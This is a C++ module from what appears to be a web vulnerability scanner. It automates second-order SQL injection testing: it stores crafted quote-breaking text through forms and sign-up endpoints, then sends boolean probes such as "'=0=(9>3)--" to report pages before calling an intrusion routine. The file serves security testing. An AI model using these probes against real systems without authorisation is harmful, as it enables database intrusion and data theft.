// sql-second-order: text that is stored safely and pasted into another statement later. Each try
// stores anew and then asks for the reports; what the profile refuses may get in at sign-up.
#include <algorithm>
#include <set>

#include "core/attack/every_agent.h"
#include "core/attack/intrusion.h"
#include "core/attack/quotes.h"
#include "core/attack/session.h"
#include "core/base/order.h"

namespace parapet::attack {
namespace {

// Stored text as the app shows it back, to see whether it was stored as sent.
std::string odd_text() { return "Ab'c\"--;d" + std::string(kEveryDisguisedQuote); }

std::vector<Spot> stores(Target const& target) {
    std::string_view const named = target.option(option::kStore);
    if (!named.empty()) return spots_named(target, named);
    std::vector<Spot> spots;
    for (Spot const& spot : spots_to_try(target, is_text)) {
        if (spot.endpoint->method != "GET") spots.push_back(spot);
    }
    return spots;
}

class SqlSecondOrder final : public Agent {
    void run(Target& target) override {
        Endpoint const* signup = endpoint_option(target, option::kSignup, "signup");
        // Sign-ups last: they cost the app a hash each.
        std::vector<Spot> const spots = in_order(
            stores(target), [&](Spot const& spot) { return std::size_t{spot.endpoint == signup}; });
        std::vector<Endpoint const*> const reports = report_endpoints(target);
        for (Spot const& spot : spots) {
            bool const won = spot.endpoint == signup ? try_newcomer(target, spot, reports)
                                                     : try_stored(target, spot, reports);
            if (won) return;
        }
    }

    bool try_stored(Target& target, Spot const& spot, std::vector<Endpoint const*> const& reports) {
        StoredEntry entry(target, spot, reports);
        Answer const shown = entry.show(odd_text());
        if (shown.body.find(json_string(odd_text())) != std::string::npos)
            kept_.insert(spot.get().name);
        Guess guess = guess_text(target, spot.get());
        if (shown.status >= 500) {
            add_disguised_quotes(guess);
        } else if (!shows_anything(entry)) {
            return false;
        }
        return intrude(entry, guess);
    }

    // A report that fails over odd text may have doubled its quotes and made more of them then.
    static void add_disguised_quotes(Guess& guess) {
        Frame const first = guess.frames.front();
        for (std::string_view quote : kDisguisedQuotes)
            guess.frames.push_back(
                {replace_quotes(first.before, quote), replace_quotes(first.after, quote)});
    }

    // Every account costs the app a hash, so this asks only where it can learn something new: a
    // field that the profile keeps as sent has been tried by then.
    bool try_newcomer(Target& target, Spot const& spot,
                      std::vector<Endpoint const*> const& reports) {
        if (spot.parameter == password_parameter(*spot.endpoint)) return false;
        if (kept_.contains(spot.get().name)) return false;
        NewcomerEntry entry(target, spot, reports);
        if (shows_anything(entry)) return intrude(entry, guess_text(target, spot.get()));
        // What the one who sent it is not shown, somebody in the same town may be.
        if (spot.parameter == username_parameter(*spot.endpoint))
            entry.look_from_next_door("'=0=(9>3)--");
        return false;
    }

    // Telling texts against a harmless one: that fail, that end in a comment, that do not.
    static bool shows_anything(Entry& entry) {
        std::string const nothing = random_word(entry.target(), 6);
        std::string const ordinary = fingerprint(entry.send(nothing), Detail::NoDigits);
        Frame const telling[] = {failing(nothing + "'||substr(7,1,0*", ")||'"),
                                 {nothing + "'=0=(", ")--"},
                                 {nothing + "''=0=(", ")--"},
                                 {nothing + "'=0=(", ")+'"}};
        for (Frame const& frame : telling) {
            if (fingerprint(entry.send(frame.around("9>3")), Detail::NoDigits) != ordinary)
                return true;
        }
        return false;
    }

    std::set<std::string> kept_;
};

}  // namespace

std::unique_ptr<Agent> make_sql_second_order() { return std::make_unique<SqlSecondOrder>(); }

}  // namespace parapet::attack
